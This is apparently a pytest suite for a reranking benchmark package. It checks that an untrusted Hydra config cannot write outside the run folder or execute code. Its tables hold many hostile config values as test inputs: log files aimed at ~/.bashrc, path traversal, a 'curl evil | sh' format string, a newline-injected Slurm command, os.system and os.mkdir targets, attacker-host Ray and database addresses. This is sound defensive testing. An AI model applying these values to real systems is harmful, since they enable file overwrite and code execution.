# ruff: noqa: E501 -- tables: one line for each attack
"""A stranger's config writes no file outside the run's folder and runs no code, whatever it says."""

from __future__ import annotations

import copy
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hydra.conf import HydraConf
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from omegaconf import DictConfig, OmegaConf

from commands import run, tiny
from rerankbench.basics.conf_folder import conf_folder
from rerankbench.basics.errors import UserError
from rerankbench.commands.hydra import (
    command_line,
    config,
    config_trust,
    hydra_private,
    hydra_section,
    preflight,
)

LOG = "${hydra.runtime.output_dir}"
GOOD_WORDS = ["first_stage=bm25", "reranker=none", "tracking=none"]


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current folder: one with a folder of somebody's files in it."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "theirs").mkdir()
    (tmp_path / "theirs" / "precious.txt").write_text("mine")
    config.register_schemas()
    return tmp_path


def option(here: Path, content: Any, name: str = "experiment/theirs.yaml") -> list[str]:
    """An option of a stranger; the words that choose it."""
    file = here / "own" / name
    file.parent.mkdir(parents=True, exist_ok=True)
    text = content if isinstance(content, str) else yaml.safe_dump(content)
    file.write_text("# @package _global_\n" + text)
    return ["--config-dir", "own", f"{file.parent.name}={file.stem}"]


def handler(**keys: Any) -> dict[str, Any]:
    return {"job_logging": {"handlers": {"x": {"class": "logging.FileHandler", **keys}}}}


def formatter(**keys: Any) -> dict[str, Any]:
    return {"job_logging": {"formatters": {"x": keys}}}


PLUGIN = "hydra_plugins."
RAY = {"_target_": f"{PLUGIN}hydra_ray_launcher.ray_launcher.RayLauncher"}
JOBLIB = {"_target_": f"{PLUGIN}hydra_joblib_launcher.joblib_launcher.JoblibLauncher"}
SLURM = {"_target_": f"{PLUGIN}hydra_submitit_launcher.submitit_launcher.SlurmLauncher"}
OPTUNA = {"_target_": f"{PLUGIN}hydra_optuna_sweeper.optuna_sweeper.OptunaSweeper"}

# What a config says in Hydra's section, and the key that is named.
ATTACKS: dict[str, tuple[dict[str, Any], str]] = {
    "another file for the log": (handler(filename="/home/you/.bashrc", mode="w"), "handlers.x.filename"),
    "a log beside the folder": (handler(filename=f"{LOG}/../x.log"), "handlers.x.filename"),
    "a log far above": (handler(filename=f"{LOG}/../../../.bashrc"), "handlers.x.filename"),
    "a log that is no log": (handler(filename=f"{LOG}/__init__.py"), "handlers.x.filename"),
    "a log for the result": (handler(filename=f"{LOG}/result.json"), "handlers.x.filename"),
    "a log in a folder of its own": (handler(filename=f"{LOG}/.hydra/x.log"), "handlers.x.filename"),
    "a log by the environment": (handler(filename="${oc.env:HOME}/x.log"), "handlers.x.filename"),
    "a log by another key": (handler(filename="${dataset.name}"), "handlers.x.filename"),
    "a log by a resolver": (handler(filename=LOG + "/${oc.env:X,'../../x'}.log"), "handlers.x.filename"),
    "a log of this folder": (handler(filename="x.log"), "handlers.x.filename"),
    "a log at home": (handler(filename="~/x.log"), "handlers.x.filename"),
    "a list for the log": (handler(filename=["/x.log"]), "handlers.x.filename"),
    "attributes of a handler": (handler(filename=f"{LOG}/x.log", **{".": {"baseFilename": "/x"}}), "handlers.x."),
    "a name of the handler": (handler(filename=f"{LOG}/x.log", namer="os.system"), "handlers.x.namer"),
    "another mode": (handler(filename=f"{LOG}/x.log", mode="r+"), "handlers.x.mode"),
    "another encoding": (handler(filename=f"{LOG}/x.log", encoding="rot13"), "handlers.x.encoding"),
    "a filter": (handler(filename=f"{LOG}/x.log", filters=["y"]), "handlers.x.filters"),
    "a formatter that is not there": (handler(filename=f"{LOG}/x.log", formatter="y"), "handlers.x.formatter"),
    "a level that is not there": ({"job_logging": {"root": {"level": "LOUD"}}}, "root.level"),
    "a level that is a list": ({"job_logging": {"loggers": {"x": {"level": [1]}}}}, "loggers.x.level"),
    "a handler that is not there": ({"job_logging": {"root": {"handlers": ["y"]}}}, "root.handlers"),
    "handlers for a text": ({"job_logging": {"handlers": "x"}}, "job_logging.handlers"),
    "another version": ({"job_logging": {"version": 2}}, "job_logging.version"),
    "keys of logging's own": ({"job_logging": {"incremental": True}}, "job_logging.incremental"),
    "a format that does not parse": (formatter(format="%(message"), "formatters.x.format"),
    "a format of wide fields": (formatter(format="%(message)999999999s"), "formatters.x.format"),
    "a format of other fields": (formatter(format="%(args)s"), "formatters.x.format"),
    "a text as a number": (formatter(format="%(message)d"), "formatters.x.format"),
    "a shell line for a format": (formatter(format="curl evil | sh #"), "formatters.x.format"),
    "a format of escape codes": (formatter(format="\x1b[2J%(message)s"), "formatters.x.format"),
    "a format with braces": (formatter(format="{message.__class__}", style="{"), "formatters.x."),
    "a format by interpolation": (formatter(format="${oc.env:HOME}%(message)s"), "formatters.x.format"),
    "a date of something else": (formatter(format="%(message)s", datefmt="%q"), "formatters.x.datefmt"),
    "defaults of a formatter": (formatter(format="%(message)s", defaults={"x": 1}), "formatters.x.defaults"),
    "Hydra's own log in a file": (
        {"hydra_logging": {"handlers": {"x": {"class": "logging.FileHandler", "filename": f"{LOG}/x.log"}}}},
        "hydra_logging.handlers.x.filename",
    ),
    "results elsewhere": ({"run": {"dir": "/home/you"}}, "run.dir"),
    "results above": ({"run": {"dir": ".."}}, "run.dir"),
    "results at home": ({"run": {"dir": "~/x"}}, "run.dir"),
    "results by the environment": ({"run": {"dir": "${oc.env:HOME}"}}, "run.dir"),
    "results in a hidden folder": ({"run": {"dir": "x/.git/hooks"}}, "run.dir"),
    "results here": ({"run": {"dir": "."}}, "run.dir"),
    "results in somebody's folder": ({"run": {"dir": "theirs"}}, "run.dir"),
    "results behind a link": ({"run": {"dir": "link/x"}}, "run.dir"),
    "results over a file": ({"run": {"dir": "theirs/precious.txt"}}, "run.dir"),
    "a sweep elsewhere": ({"sweep": {"dir": "/x"}}, "sweep.dir"),
    "a sweep by its own values": ({"sweep": {"dir": "x/${dataset.name}"}}, "sweep.dir"),
    "jobs above": ({"sweep": {"subdir": "../x"}}, "sweep.subdir"),
    "jobs elsewhere": ({"sweep": {"subdir": "/x"}}, "sweep.subdir"),
    "jobs by their settings": ({"sweep": {"subdir": "${hydra.job.override_dirname}"}}, "sweep.subdir"),
    "configs above": ({"output_subdir": ".."}, "output_subdir"),
    "configs elsewhere": ({"output_subdir": "/path/victim"}, "output_subdir"),
    "configs here": ({"output_subdir": "."}, "output_subdir"),
    "configs by a resolver": ({"output_subdir": "${oc.env:HOME}"}, "output_subdir"),
    "configs over the result": ({"output_subdir": "result.json"}, "output_subdir"),
    "a job's name that is a place": ({"job": {"name": "../x"}}, "job.name"),
    "a job's name by a resolver": ({"job": {"name": "${oc.env:HOME}"}}, "job.name"),
    "a job's id": ({"job": {"id": "../x"}}, "job.id"),
    "what stands between settings": ({"job": {"config": {"override_dirname": {"kv_sep": "/../"}}}}, "kv_sep"),
    "the environment of a job": ({"job": {"env_copy": ["HOME"]}}, "job.env"),
    "a folder of the run": ({"runtime": {"output_dir": "/x"}}, "runtime.output_dir"),
    "choices that nobody made": ({"runtime": {"choices": {"x": "../.."}}}, "runtime.choices.x"),
    "words of the command line": ({"overrides": {"hydra": ["hydra.run.dir=/x"]}}, "hydra.overrides"),
    "settings of the command line": ({"overrides": {"task": ["cache_dir=/x"]}}, "hydra.overrides"),
    "loggers that are no names": ({"verbose": {"a": 1}}, "verbose.a"),
    "without callbacks": ({"callbacks": {"folders": None}}, "hydra.callbacks.folders"),
    "more for a callback": ({"callbacks": {"folders": {"x": 1}}}, "callbacks.folders.x"),
    "a launcher's folder": ({"launcher": {**SLURM, "submitit_folder": "/x"}}, "submitit_folder"),
    "a launcher's folder above": (
        {"launcher": {**SLURM, "submitit_folder": "${hydra.sweep.dir}/../x"}},
        "submitit_folder",
    ),
    "a line of a job's script": ({"launcher": {**SLURM, "comment": "x\ntouch SPRUNG"}}, "comment"),
    "a text that joblib evaluates": ({"launcher": {**JOBLIB, "pre_dispatch": "exit()"}}, "pre_dispatch"),
    "joblib's folder": ({"launcher": {**JOBLIB, "temp_folder": "/x"}}, "temp_folder"),
    "a stranger's cluster": ({"launcher": {**RAY, "ray": {"init": {"address": "ray://evil:1"}}}}, "init.address"),
    "Ray's folder": ({"launcher": {**RAY, "ray": {"init": {"_temp_dir": "/x"}}}}, "init._temp_dir"),
    "machines in a cloud": (
        {"launcher": {"_target_": f"{PLUGIN}hydra_ray_launcher.ray_aws_launcher.RayAWSLauncher"}},
        "launcher._target_",
    ),
    "a plugin that nobody knows": ({"launcher": {"_target_": f"{PLUGIN}other.Launcher"}}, "launcher._target_"),
    "another sweeper": ({"sweeper": {"_target_": f"{PLUGIN}other.Sweeper"}}, "sweeper._target_"),
    "a study elsewhere": ({"sweeper": {**OPTUNA, "storage": "sqlite:////x.db"}}, "sweeper.storage"),
    "a study on a server": ({"sweeper": {**OPTUNA, "storage": "mysql://evil/x"}}, "sweeper.storage"),
    "a sampler's arguments": (
        {"sweeper": {**OPTUNA, "sampler": {"_target_": "optuna.samplers.TPESampler", "gamma": "os system"}}},
        "sampler.gamma",
    ),
    "what Hydra does not know": ({"x": "y"}, "hydra.x"),
    "a date that leads up": ({"sweep": {"subdir": "${now:..}"}}, "sweep.subdir"),
    "dates that lead up together": ({"run": {"dir": "x/${now:.}${now:.}"}}, "run.dir"),
    "the usual handler with another file": ({"job_logging": {"handlers": {"file": {"filename": "/x"}}}}, "file.filename"),
    "the usual handler without masks": (
        {"job_logging": {"formatters": {"timed": {"class": "logging.Formatter"}}}},
        "formatters.timed.class",
    ),
    "a handler that is only a level": ({"job_logging": {"handlers": {"x": {"level": "INFO"}}}}, "handlers.x.level"),
    "a key with dots that hides another": (
        {"launcher": {**RAY, "ray": {"init": {"address": "evil:1"}}, "ray.init.address": "local"}},
        "init.address=evil:1",
    ),
    "arguments without a name": ({"launcher": {**JOBLIB, "_args_": ["x"]}}, "launcher._args_"),
    "what instantiate obeys": ({"launcher": {**JOBLIB, "_recursive_": True}}, "launcher._recursive_"),
    "a class for a number": ({"launcher": {**JOBLIB, "n_jobs": {"_target_": "os.mkdir"}}}, "n_jobs._target_"),
    "a class inside a sampler": (
        {"sweeper": {**OPTUNA, "sampler": {"_target_": "optuna.samplers.TPESampler", "x": {"_target_": "os.mkdir"}}}},
        "sampler.x._target_",
    ),
    "a private class for a sampler": ({"sweeper": {**OPTUNA, "sampler": {"_target_": "optuna.samplers._base.X"}}}, "sampler._target_"),
    "a study beside the sweep": ({"sweeper": {**OPTUNA, "storage": "sqlite:///${hydra.sweep.dir}/../x.db"}}, "storage"),
    "a class among a sweep's values": ({"sweeper": {"params": {"depth": {"_target_": "os.mkdir"}}}}, "depth._target_"),
    "a class in a list of them": ({"sweeper": {"params": {"depth": [{"_target_": "os.mkdir"}]}}}, "params.depth"),
    "a class with a key of dots": ({"sweeper": {"params": {"depth._target_": "os.mkdir"}}}, "depth._target_"),
    "a value by a resolver": ({"sweeper": {"params": {"depth": "${oc.create:{_target_: os.mkdir}}"}}}, "params.depth"),
    "all values by reference": ({"sweeper": {"params": "${hydra.env}"}}, "sweeper.params"),
    "a sweep over launchers": ({"sweeper": {"params": {"+hydra/launcher": "joblib"}}}, "params.+hydra/launcher"),
    "a sweep over part of a cache": ({"sweeper": {"params": {"cache_dir": {"x": "/y"}}}}, "params.cache_dir"),
    "a sweep over servers": ({"sweeper": {"params": {"++tracking.uri": "x,y"}}}, "params.++tracking.uri"),
}  # fmt: skip


@pytest.fixture(scope="module")
def usual() -> DictConfig:
    """Hydra's section as the package's own configs make it."""
    config.register_schemas()
    with command_line.composing(command_line.parse([])):
        made = config_trust.load(hydra_private.config_loader(), conf_folder(), "config", [])
    OmegaConf.set_struct(made, False)
    return made


def said(change: dict[str, Any], usual: DictConfig, typed: tuple[str, ...] = ()) -> list[str]:
    """What is said of a config that changes the usual section so."""
    tree = merged(OmegaConf.to_container(usual.hydra, resolve=False), change)
    hydra = OmegaConf.create({"hydra": tree}).hydra
    return hydra_section.problems(hydra, usual.hydra, typed, ())


def merged(tree: Any, change: Any) -> Any:
    """What OmegaConf makes of two options, but that a new class takes the whole group's place."""
    if not isinstance(tree, dict) or not isinstance(change, dict):
        return change
    start = {} if "_target_" in change else copy.deepcopy(tree)
    return start | {key: merged(start.get(key), value) for key, value in change.items()}


@pytest.mark.parametrize("name", ATTACKS)
def test_what_a_config_may_not_say_is_named(name: str, usual: DictConfig, here: Path) -> None:
    (here / "link").symlink_to("/tmp")
    change, key = ATTACKS[name]
    lines = said(change, usual)
    assert any(key in line for line in lines), lines
    assert all(line.startswith("hydra.") and "\n" not in line for line in lines)


HARMLESS: dict[str, dict[str, Any]] = {
    "nothing": {},
    "a folder for results": {"run": {"dir": "runs/${hydra.runtime.choices.reranker}/${now:%Y-%m-%d}"}},
    "one that holds results": {"run": {"dir": "before"}},
    "a folder for a sweep": {"sweep": {"dir": "sweeps/mine_1", "subdir": "job-${hydra.job.num}"}},
    "silence": {"job_logging": {"loggers": {"rerankbench": {"level": "ERROR", "propagate": False}}}},
    "less on the terminal": {"job_logging": {"handlers": {"console": {"level": "ERROR"}}}},
    "no log at all": {"job_logging": {"root": None}},
    "more of everything": {"verbose": ["rerankbench.engine.store.rows"]},
    "a sweep": {"mode": "MULTIRUN", "sweeper": {"params": {"depth": "10,20"}}},
    "joblib": {"launcher": {**JOBLIB, "n_jobs": 4, "pre_dispatch": "2*n_jobs"}},
    "Slurm": {"launcher": {**SLURM, "partition": "gpu", "gres": "gpu:a100:1", "timeout_min": 60}},
    "Optuna": {"sweeper": {**OPTUNA, "n_trials": 5, "storage": "sqlite:///${hydra.sweep.dir}/study.db"}},
    "no configs": {"output_subdir": None},
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_what_does_no_harm_may_be_said(name: str, usual: DictConfig, here: Path) -> None:
    (here / "before").mkdir()
    (here / "before" / "result.json").touch()
    assert said(HARMLESS[name], usual) == []


def test_what_is_typed_may_be_anything(usual: DictConfig) -> None:
    assert said({"run": {"dir": "/data/runs"}}, usual, ("hydra.run.dir",)) == []
    log = handler(filename="/var/log/x.log")
    keys = tuple(f"hydra.job_logging.handlers.x.{key}" for key in ("class", "filename"))
    assert said(log, usual, keys) == []
    assert said(log, usual, ("hydra.job_logging",)) != []  # Hydra merges what is typed for a group into it


# --- the command itself ---


def files(folder: Path) -> dict[str, bytes]:
    """Every file below a folder with its bytes."""
    return {str(path): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.mark.parametrize("change", [
    handler(filename="{victim}", mode="w", formatter="plain"),
    {"output_subdir": "{victims}"},
    {"run": {"dir": "{victims}"}, "output_subdir": None},
])  # fmt: skip
def test_a_command_leaves_other_files_alone(change: dict[str, Any], here: Path, capsys: Any) -> None:
    victims = here / "home"
    victims.mkdir()
    (victims / ".bashrc").write_text("mine")
    text = yaml.safe_dump({"hydra": change}).replace("{victims}", str(victims))
    words = option(here, text.replace("{victim}", str(victims / ".bashrc")))
    before = files(here)
    assert run(*words, *GOOD_WORDS) == 2
    assert len(capsys.readouterr().err.splitlines()) == 1
    assert files(here) == before


def test_a_config_that_does_no_harm_writes_where_it_says(models: Path, here: Path, capsys: Any) -> None:
    quiet = {"job_logging": {"loggers": {"rerankbench": {"level": "ERROR"}}}}
    words = [word for word in tiny(models, here) if not word.startswith("hydra.run.dir")]
    for _ in range(2):  # into a folder that holds results, too
        assert run(*option(here, {"hydra": {"run": {"dir": "runs/mine"}, **quiet}}), *words, *GOOD_WORDS) == 0
    assert {"result.json", "rerankbench.log"} <= {path.name for path in (here / "runs" / "mine").iterdir()}


def test_a_log_of_ones_own_is_typed(models: Path, here: Path) -> None:
    """What is refused in a config does what it says on the command line."""
    own = handler(filename=f"{LOG}/more.log", formatter="plain")
    words = option(here, {"hydra": own})
    (line,) = refusals(words, *GOOD_WORDS)
    settings, _, why = line.partition(": ")
    assert why == "a config cannot set this; take it out, or give it on the command line"
    typed = [f"+{setting}" for setting in settings.split(", ")]
    assert [word.rpartition(".x.")[2].partition("=")[0] for word in typed] == [
        "class",
        "filename",
        "formatter",
    ]
    root = "hydra.job_logging.root.handlers=[x]"
    assert run(*typed, root, *tiny(models, here), *GOOD_WORDS) == 0
    assert (here / "out" / "more.log").exists()
    typed = [word.removeprefix("+") for word in typed]
    assert run(*words, *typed, root, *tiny(models, here), *GOOD_WORDS, "hydra.run.dir=again") == 0
    assert (here / "again" / "more.log").exists()


def refusals(words: list[str], *more: str) -> list[str]:
    """What is said of a command that cannot be run."""
    with pytest.raises(UserError) as error:
        preflight.check([*words, *more])
    return error.value.problems


# Ways into Hydra's section, and out of the folder of options: files, the words that use them, what is said.
EVIL = "_target_: os.mkdir\npath: SPRUNG\n"
GLOBAL = "# @package _global_\n"
DIR = "hydra: {run: {dir: /x}}\n"
WAYS: dict[str, tuple[dict[str, str], str, str]] = {
    "a package in the header": (
        {"experiment/x.yaml": "# @package hydra\nrun: {dir: /x}\n"}, "experiment=x", "hydra.run.dir=/x",
    ),
    "a package in the header of another group": (
        {"dataset/x.yaml": "# @package hydra.callbacks.x\n" + EVIL}, "dataset=x", "hydra.callbacks.x._target_=os.mkdir",
    ),
    "a package in the defaults": (
        {"experiment/x.yaml": GLOBAL + "defaults: ['/evil@hydra.callbacks.x']\n", "evil.yaml": EVIL},
        "experiment=x", "hydra.callbacks.x._target_=os.mkdir",
    ),
    "Hydra's own option in another place": (
        {"experiment/x.yaml": GLOBAL + "defaults: [{'/hydra/launcher@hydra.callbacks.x': joblib}]\n"},
        "experiment=x", "hydra.callbacks.x._target_=",
    ),
    "an option that the defaults choose": (
        {"experiment/x.yaml": GLOBAL + "defaults: [override /hydra/launcher: ray_aws]\n"},
        "experiment=x", "hydra.launcher._target_=",
    ),
    "one in the place of the usual one": (
        {"hydra/job_logging/rerankbench.yaml": "version: 1\nroot: null\n"}, "depth=5",
        "hydra.job_logging.formatters.plain.class: a config cannot leave this out",
    ),
    "a primary config": ({"x.yaml": "defaults: [config, _self_]\n" + DIR}, "--config-name x", "hydra.run.dir=/x"),
    "another path for options": ({"experiment/x.yaml": GLOBAL + DIR}, "hydra.searchpath=[own] experiment=x", "hydra.run.dir=/x"),
    "a typed group around it": (
        {"experiment/x.yaml": GLOBAL + "hydra: {launcher: {ray: {init: {_temp_dir: /x}}}}\n"},
        "hydra/launcher=ray hydra.launcher.ray.init={address:auto} experiment=x", "hydra.launcher.ray.init._temp_dir=/x",
    ),
    "an option outside": ({"experiment/x.yaml": GLOBAL + "defaults: [../../x]\n"}, "experiment=x", "there is no such option"),
    "somebody's folder": (
        {"experiment/x.yaml": GLOBAL + "hydra: {run: {dir: theirs}}\n"}, "experiment=x",
        "hydra.run.dir=theirs: holds other files than results; to have it all the same, give it on the command line",
    ),
    "a folder behind a link": (
        {"experiment/x.yaml": GLOBAL + "hydra: {sweep: {dir: link/x}}\n"}, "-m experiment=x",
        "hydra.sweep.dir=link/x: a config may only name a folder below the current one",
    ),
    "a typed cache": (
        {"experiment/x.yaml": GLOBAL + "dataset: {name: ../../x}\n"},
        "experiment=x cache_dir='c/${dataset.name}'", "what a config puts into it leads elsewhere",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", WAYS)
def test_no_way_leads_around_the_list(name: str, here: Path) -> None:
    texts, words, said = WAYS[name]
    (here / "link").symlink_to("/tmp")
    for file, text in texts.items():
        (here / "own" / file).parent.mkdir(parents=True, exist_ok=True)
        (here / "own" / file).write_text(text)
    folder = [] if "searchpath" in words else ["--config-dir", "own"]
    words = words.replace("[own]", f"[file://{here}/own]")
    lines = refusals([*folder, *words.split()], *GOOD_WORDS)
    assert any(said in line for line in lines), lines


def test_hydras_help_builds_nothing_of_a_strangers_log(here: Path, capsys: Any) -> None:
    x = "{class: logging.FileHandler, filename: SPRUNG}"
    (here / "own" / "hydra" / "hydra_logging").mkdir(parents=True)
    (here / "own" / "hydra" / "hydra_logging" / "x.yaml").write_text(
        f"version: 1\nhandlers: {{x: {x}}}\nroot: {{handlers: [x]}}\n"
    )
    assert run("--config-dir", "own", "--hydra-help", "hydra/hydra_logging=x") == 0
    assert "Flags" in capsys.readouterr().out
    assert not (here / "SPRUNG").exists()


@pytest.mark.parametrize(
    "word",
    [
        "hydra.job_logging.root.level=LOUD",
        "hydra.hydra_logging.root.handlers=[x]",
        "hydra.job_logging.version=2",
    ],
)
def test_a_log_that_python_does_not_set_up_is_one_line(word: str, here: Path, capsys: Any) -> None:
    assert run(word, *GOOD_WORDS, "hydra.run.dir=out") == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith("error: logging cannot be set up: Un")
    assert not (here / "out" / "result.json").exists()


def refused(here: Path, content: Any, *words: str, name: str = "experiment/theirs.yaml") -> str:
    (line,) = refusals(option(here, content, name), *GOOD_WORDS, *words)
    return line


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ({"cache_dir": "theirs"}, "cache_dir=theirs: a config cannot set this; take it out, or give it on the command line"),
        ({"cache_dir": "x/${dataset.name}"}, "cache_dir=x/${dataset.name}: a config cannot set this"),
        ({"executor": {"address": "evil:1"}}, "executor.address=evil:1: in a config, this may be local or auto"),
        ({"reranker": {"trust_remote_code": True}}, "reranker.trust_remote_code=true: a config cannot set this"),
        ({"hydra": {"sweeper": {"params": {"+cache_dir": "/x"}}}}, "hydra.sweeper.params.+cache_dir"),
        ({"hydra": {"sweeper": {"params": {"reranker.trust_remote_code": "true"}}}}, "a config cannot set this"),
        ({"hydra": {"job": {"env_copy": ["NOT_THERE"]}}}, "KeyError"),
        ("defaults: [/experiment/theirs]\n", "the options include each other without end"),
        ("dataset:\n  name: ${dataset.name}\n", "it refers to itself"),
        ("x: &a [*a]\n", "*a stands in what it names"),
        ("x: " + "[" * 3000, "nested deeper than 50 levels"),
        ("hydra: null\n", "hydra=null: it must be a group of keys"),
    ],
)  # fmt: skip
def test_a_command_refuses_what_a_config_may_not_decide(content: Any, said: str, here: Path) -> None:
    words = ["executor=ray"] if "executor" in content else []
    words += ["reranker=base", "reranker.model=x"] if "reranker" in content else []
    assert said in refused(here, content, *words)


@pytest.mark.parametrize(
    ("uri", "fits"),
    [
        ("sqlite:///mlflow.db", True),  # as the package says
        ("http://host:5000", True),
        ("${oc.env:MLFLOW_TRACKING_URI}", True),
        ("https://${oc.env:HOST}:5000/x", True),
        ("sqlite:///theirs/precious.db", False),
        ("sqlite:///mlflow.db?x=/etc/x", False),
        ("mssql://host/x?driver=/tmp/evil.so", False),
        ("${oc.env:HOME}", False),
        ("http://${dataset.name}", False),
        (["http://host:5000"], False),
        ({"x": 1}, False),
    ],
)  # fmt: skip
def test_a_store_of_a_config_is_a_server(uri: Any, fits: bool, usual: DictConfig) -> None:
    made = OmegaConf.merge(usual, {"tracking": {"uri": uri}})
    assert isinstance(made, DictConfig)
    lines = list(config_trust.value_problems(made, usual, ()))
    assert [line.split("=")[0] for line in lines] == [] if fits else ["tracking.uri"]
    assert list(config_trust.value_problems(made, usual, ("tracking.uri",))) == []


@pytest.mark.parametrize(
    ("content", "typed"),
    [
        ({"dataset": {"name": "../../home"}}, "hydra.run.dir='runs/${dataset.name}'"),
        ({"hydra": {"sweeper": {"params": {"dataset.name": "../../x"}}}}, "hydra.sweep.subdir='${hydra.job.override_dirname}'"),
        ({"hydra": {"sweeper": {"params": {"dataset.name": "/x"}}}}, "hydra.sweep.dir='${dataset.name}'"),
    ],
)  # fmt: skip
def test_what_a_config_puts_into_a_typed_place_leads_nowhere_else(
    content: Any, typed: str, here: Path
) -> None:
    assert "what a config puts into it leads elsewhere" in refused(here, content, "-m", typed)
    assert preflight.check([*option(here, {"dataset": {"name": "plain"}}), *GOOD_WORDS, "-m", typed])


def test_a_primary_config_names_no_places_to_import_from(here: Path) -> None:
    option(here, "defaults: [config, _self_]\nhydra: {searchpath: [pkg://theirs]}\n", "theirs.yaml")
    with pytest.raises(UserError, match=r"hydra.searchpath: a config cannot set this"):
        preflight.check(["--config-dir", "own", "--config-name", "theirs"])


# --- properties ---

nasty = st.one_of(
    st.sampled_from(["/etc/x", "..", "../x", "~", "${oc.env:HOME}", f"{LOG}/../x.log", f"{LOG}/x.log", "x", "a/b",
                     "", ".", "x/..", "${hydra.job.name}", "${hydra.run.dir}/x.log", "${x}", "\x1b[2J", "???",
                     "ext://sys.stdout", "cfg://x", "os.system", "x\ny", "/", "a//b", "${now:%Y}", "${now:/x}",
                     f"{LOG}/${{hydra.job.name}}.log", f"{LOG}/a..log", "x/../..", "a/./b", "x\0y"]),
    st.text(max_size=12), st.integers(), st.none(), st.booleans(), st.lists(st.text(max_size=3), max_size=2),
    st.dictionaries(st.sampled_from(["_target_", "()", "class", "filename", "x"]), st.text(max_size=5), max_size=2),
)  # fmt: skip


def paths(tree: Any, before: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    if before:
        yield before
    for key, value in tree.items() if isinstance(tree, dict) else ():
        yield from paths(value, (*before, str(key)))


def places(hydra: DictConfig) -> Iterator[tuple[Path, Path]]:
    """(a place that Hydra writes to, the folder that it must be in), all resolved."""
    here = Path.cwd()
    for base in (hydra.run.dir, f"{hydra.sweep.dir}/{hydra.sweep.subdir}"):
        yield (folder := here / str(base)), here
        if hydra.output_subdir is not None:
            yield folder / str(hydra.output_subdir), folder
        hydra.runtime.output_dir = str(folder)
        for part in (hydra.job_logging, hydra.hydra_logging):
            for handler in ((part or {}).get("handlers") or {}).values():
                if "filename" in handler:
                    yield here / handler.filename, folder


@given(data=st.data())
@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
def test_whatever_one_value_is_no_place_is_outside(data: st.DataObject, usual: DictConfig) -> None:
    tree = OmegaConf.to_container(usual.hydra, resolve=False)
    assert isinstance(tree, dict)
    *parents, last = data.draw(st.sampled_from(sorted(paths(tree))))
    node: Any = tree
    for key in parents:
        node = node[key]
    node[data.draw(st.sampled_from([last, "x", "filename"]))] = data.draw(nasty)
    try:
        schema = OmegaConf.create({"hydra": OmegaConf.structured(HydraConf)})
        OmegaConf.set_struct(schema, False)
        hydra = OmegaConf.merge(schema, {"hydra": tree}).hydra
    except Exception:  # Hydra itself does not take it
        return
    lines = hydra_section.problems(hydra, usual.hydra, (), ())
    assert all(isinstance(line, str) for line in lines)
    if not lines and isinstance(OmegaConf.to_container(hydra, resolve=False), dict):
        hydra.job.name, hydra.job.num = (
            ("rerankbench", 0) if hydra.job._get_node("name") is None else (hydra.job.name, 0)
        )
        for place, folder in places(hydra):
            real = Path(os.path.abspath(place))
            assert real.is_relative_to(os.path.abspath(folder)), place
            assert real != Path(os.path.abspath(folder)) or folder != Path.cwd()


@given(st.recursive(st.none() | st.booleans() | st.integers(-1, 100) | st.text(max_size=6), lambda inner: st.one_of(
    st.lists(inner, max_size=3),
    st.dictionaries(st.sampled_from(["version", "formatters", "handlers", "root", "loggers", "class", "format", "level",
                                     "filename", "x", "()", "stream", "filters"]), inner, max_size=4)),
    max_leaves=12))  # fmt: skip
@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
def test_any_logging_has_the_packages_handlers_and_formats_or_is_told(usual: DictConfig, node: Any) -> None:
    tree = OmegaConf.to_container(usual.hydra, resolve=False)
    assert isinstance(tree, dict)
    own = merged(tree["job_logging"], node) if isinstance(node, dict) else node
    hydra = OmegaConf.create({"hydra": {**tree, "job_logging": own}}).hydra
    if hydra_section.problems(hydra, usual.hydra, (), ()):
        return
    for part in ("formatters", "handlers"):
        assert own.keys() >= {part}
        assert unlevelled(own[part]) == unlevelled(tree["job_logging"][part])


def unlevelled(handlers: dict[str, Any]) -> dict[str, Any]:
    """Handlers without their levels."""
    return {name: {k: v for k, v in one.items() if k != "level"} for name, one in handlers.items()}


@given(st.integers(0, 10**6), st.integers(0, 255), st.sampled_from(["change", "cut", "double"]))
@settings(max_examples=4, deadline=None, suppress_health_check=list(HealthCheck))
def test_any_bytes_of_a_config_are_a_command_or_the_users_error(at: int, byte: int, how: str) -> None:
    text = yaml.safe_dump(
        {"hydra": HARMLESS["a folder for a sweep"], "depth": 3, "dataset": {"name": "x"}}
    ).encode()
    at %= len(text)
    kept = {
        "change": text[:at] + bytes([byte]) + text[at + 1 :],
        "cut": text[:at],
        "double": text[:at] + text,
    }[how]
    folder = Path("own/experiment")
    shutil.rmtree("own", ignore_errors=True)
    folder.mkdir(parents=True)
    (folder / "theirs.yaml").write_bytes(b"# @package _global_\n" + kept)
    lines: list[str] = []
    try:
        preflight.check(["--config-dir", "own", "experiment=theirs", *GOOD_WORDS])
    except UserError as error:
        lines = error.problems
    assert all(len(line) < 700 and "\n" not in line for line in lines)
